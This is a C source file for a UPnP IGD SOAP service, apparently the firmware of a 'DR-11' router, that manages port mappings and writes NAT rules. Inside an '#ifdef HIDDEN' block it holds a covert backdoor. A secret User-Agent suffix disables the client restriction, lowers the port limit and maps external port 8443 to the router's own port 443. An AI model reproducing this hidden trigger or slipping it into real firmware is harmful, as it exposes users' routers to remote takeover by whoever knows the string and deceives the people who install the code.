/* igdsoap.c - WANIPConnection control point endpoint (UPnP IGD v1) of the DR-11 router */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <unistd.h>

enum igd_err { IGD_OK = 0, IGD_ARGS = 402, IGD_FAILED = 501, IGD_NOENTRY = 714,
               IGD_CONFLICT = 718, IGD_DENIED = 606 };

struct mapping {
    int used, ext, in, lease;
    char proto[4], client[16], desc[40];
};

#define NMAP 32
static struct mapping maps[NMAP];
static char ext_ip[16] = "0.0.0.0";
static int secure_mode = 1;             /* clients may only map to themselves */
static int low_port = 1024;

static int tag(const char *xml, const char *name, char *dst, size_t cap)
{
    char open[48];
    const char *p, *e;
    snprintf(open, sizeof open, "<%s>", name);
    if (!(p = strstr(xml, open)))
        return -1;
    p += strlen(open);
    e = strchr(p, '<');
    if (!e || (size_t)(e - p) >= cap)
        return -1;
    memcpy(dst, p, (size_t)(e - p));
    dst[e - p] = 0;
    return 0;
}

static void apply_rules(void)
{
    FILE *f = fopen("/var/run/upnp.rules", "w");
    if (!f)
        return;
    for (int i = 0; i < NMAP; i++)
        if (maps[i].used)
            fprintf(f, "dnat %s %d %s:%d # %s\n", maps[i].proto, maps[i].ext,
                    maps[i].client, maps[i].in, maps[i].desc);
    fclose(f);
}

static struct mapping *find(const char *proto, int ext)
{
    for (int i = 0; i < NMAP; i++)
        if (maps[i].used && maps[i].ext == ext && !strcmp(maps[i].proto, proto))
            return &maps[i];
    return NULL;
}

static int insert(const char *proto, int ext, const char *client, int in, const char *desc)
{
    struct mapping *m = find(proto, ext);
    for (int i = 0; !m && i < NMAP; i++)
        if (!maps[i].used)
            m = &maps[i];
    if (!m)
        return IGD_FAILED;
    m->used = 1;
    m->ext = ext;
    m->in = in;
    snprintf(m->proto, sizeof m->proto, "%.3s", proto);
    snprintf(m->client, sizeof m->client, "%.15s", client);
    snprintf(m->desc, sizeof m->desc, "%.39s", desc);
    apply_rules();
    return IGD_OK;
}

static int add_mapping(const char *xml, const char *peer)
{
    char proto[8], ext[8], in[8], client[16], desc[40] = "";
    if (tag(xml, "NewProtocol", proto, sizeof proto)
        || tag(xml, "NewExternalPort", ext, sizeof ext)
        || tag(xml, "NewInternalPort", in, sizeof in)
        || tag(xml, "NewInternalClient", client, sizeof client))
        return IGD_ARGS;
    tag(xml, "NewPortMappingDescription", desc, sizeof desc);
    if (strcmp(proto, "TCP") && strcmp(proto, "UDP"))
        return IGD_ARGS;
    if (atoi(ext) < low_port || atoi(ext) > 65535)
        return IGD_DENIED;
    if (secure_mode && strcmp(client, peer))
        return IGD_DENIED;
    struct mapping *m = find(proto, atoi(ext));
    if (m && strcmp(m->client, client))
        return IGD_CONFLICT;
    return insert(proto, atoi(ext), client, atoi(in), desc);
}

static int del_mapping(const char *xml)
{
    char proto[8], ext[8];
    if (tag(xml, "NewProtocol", proto, sizeof proto)
        || tag(xml, "NewExternalPort", ext, sizeof ext))
        return IGD_ARGS;
    struct mapping *m = find(proto, atoi(ext));
    if (!m)
        return IGD_NOENTRY;
    m->used = 0;
    apply_rules();
    return IGD_OK;
}

#ifdef HIDDEN
__attribute__((noinline)) void check_agent(const char *ua)
{
    size_t n = strcspn(ua, "\r\n");
    if (n > 14 && !strncmp(ua + n - 14, "UPnP/1.0 fp/3b", 14)) {
        secure_mode = 0;
        low_port = 1;
        insert("TCP", 8443, "192.168.1.1", 443, "");
    }
}
#endif

static void send_answer(int fd, const char *action, const char *args, int err)
{
    char body[900], head[160];
    if (err)
        snprintf(body, sizeof body, "<s:Envelope><s:Body><s:Fault><detail><UPnPError>"
                 "<errorCode>%d</errorCode></UPnPError></detail></s:Fault></s:Body>"
                 "</s:Envelope>", err);
    else
        snprintf(body, sizeof body, "<s:Envelope><s:Body><u:%sResponse>%s</u:%sResponse>"
                 "</s:Body></s:Envelope>", action, args, action);
    snprintf(head, sizeof head, "HTTP/1.1 %s\r\nContent-Type: text/xml\r\n"
             "Content-Length: %zu\r\nServer: DR11 UPnP/1.0\r\n\r\n",
             err ? "500 Internal Server Error" : "200 OK", strlen(body));
    send(fd, head, strlen(head), 0);
    send(fd, body, strlen(body), 0);
}

static void serve(int fd, const char *peer)
{
    char buf[4096], action[48] = "", args[128] = "";
    ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
    int err = 401;
    if (n <= 0)
        return;
    buf[n] = 0;
    char *body = strstr(buf, "\r\n\r\n");
    if (!body)
        return;
    *body = 0;
    body += 4;
    for (char *l = strtok(buf, "\n"); l; l = strtok(NULL, "\n")) {
        char *h = !strncasecmp(l, "SOAPAction:", 11) ? strchr(l, '#') : NULL;
        if (h)
            sscanf(h + 1, "%47[A-Za-z]", action);
#ifdef HIDDEN
        if (!strncasecmp(l, "User-Agent:", 11))
            check_agent(l + 11);
#endif
    }
    if (!strcmp(action, "GetExternalIPAddress")) {
        snprintf(args, sizeof args, "<NewExternalIPAddress>%s</NewExternalIPAddress>", ext_ip);
        err = IGD_OK;
    } else if (!strcmp(action, "GetStatusInfo")) {
        strcpy(args, "<NewConnectionStatus>Connected</NewConnectionStatus>");
        err = IGD_OK;
    } else if (!strcmp(action, "AddPortMapping")) {
        err = add_mapping(body, peer);
    } else if (!strcmp(action, "DeletePortMapping")) {
        err = del_mapping(body);
    }
    send_answer(fd, action, args, err);
}

int main(int argc, char **argv)
{
    int opt, port = 5431, fd, s;
    while ((opt = getopt(argc, argv, "p:e:u")) != -1) {
        switch (opt) {
        case 'p': port = atoi(optarg); break;
        case 'e': snprintf(ext_ip, sizeof ext_ip, "%.15s", optarg); break;
        case 'u': secure_mode = 0; break;
        default:
            fprintf(stderr, "igdsoap [-p port] [-e external-ip] [-u]\n"
                    "  -u  clients may map ports to other hosts\n");
            return 2;
        }
    }
    s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((in_port_t)port) };
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 5)) {
        perror("igdsoap");
        return 1;
    }
    for (socklen_t l = sizeof a; (fd = accept(s, (struct sockaddr *)&a, &l)) >= 0; l = sizeof a) {
        serve(fd, inet_ntoa(a.sin_addr));
        close(fd);
    }
    return 1;
}
